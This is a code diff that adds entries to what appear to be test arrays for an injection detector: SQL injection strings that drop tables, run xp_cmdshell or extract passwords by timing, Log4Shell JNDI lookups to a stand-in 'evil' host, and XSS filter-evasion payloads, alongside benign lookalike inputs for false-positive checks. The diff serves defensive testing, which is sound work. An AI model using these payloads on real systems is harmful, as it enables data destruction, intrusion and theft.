@@ -14,6 +14,9 @@ const TAKES: string[] = [
   "'; DROP TABLE users; --",
   '"); DELETE FROM accounts WHERE 1=1 --',
   "1; EXEC xp_cmdshell('whoami')--",
+  // a number's value closed and the rest of the query commented out
+  '42; DROP TABLE orders --',
+  '7); DELETE FROM invoices #',
   '${jndi:ldap://c.evil:1389/a}',
   '${${lower:j}ndi:rmi://c.evil/x}',
   // template expressions that reach the server's process API (Spring EL, FreeMarker, Velocity)
@@ -30,6 +33,21 @@ const PROBES: string[] = [
   "' OR '1'='1' --",
   "admin' UNION SELECT username, password FROM users --",
   "1' AND SLEEP(5)--",
+  // the filter-evasion forms of the cheat sheets: escapes written out, a javascript: URL anywhere, a handler opened
+  // after a quote, an HTML document in a data URL, a Markdown link to script, a statement spelled in pieces
+  '<a href="\\x0Bjavascript:javascript:alert(1)">x</a>',
+  '<div style="width:expression(javascript:alert(1))">',
+  '<img src=q\\x0Bonerror=alert(1)>',
+  '[open](data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
+  '"onerror="alert(1)',
+  'javascript:window.onerror=alert;throw 1',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  '[details](javascript:confirm(document.domain))',
+  '<img src=x onerror=print()>',
+  "x' AND IF(ASCII(SUBSTRING(pwd,1,1))>64, SLEEP(3), 0) --",
+  "name: ' INSERT INTO admins (login) VALUES ('eve'); --",
+  "EXEC('DR' + 'OP TABLE audit')",
   // a number times itself in a template's delimiters: the renderer shows 49 if it evaluates what it is given
   '{{7*7}}',
   "Name: {{7*'7'}}",
@@ -52,6 +70,13 @@ const PAGES_AND_LESSONS: string[] = [
   '#{#root.size * 2} items, ${T(java.lang.Math).random()} as the seed',
   'Class<?> c = Class.forName("java.lang.String");',
   'FreeMarker 2.3.30 lets you block freemarker.template.utility.Execute with the SAFER_RESOLVER setting.',
+  // a page's own print link and button, a sentence about dialogs, a migration's statements and comments
+  '<a href="javascript:print()">Print this page</a> <button onclick="print()">Print</button>',
+  "In JavaScript: alert('hi') shows a dialog, prompt('name') asks for input.",
+  '[Menu](javascript:void(0))',
+  '-- migration 0042\nBEGIN;\nDROP TABLE IF EXISTS tmp_import;\nSELECT id FROM jobs ORDER BY id LIMIT 10; -- newest first\nCOMMIT;',
+  "EXEC('SELECT * FROM ' + @table)",
+  'cursor.execute("DELETE FROM users WHERE id = %s", (uid,))  # parametrised',
 ]
 
 const TAUGHT: string[] = [
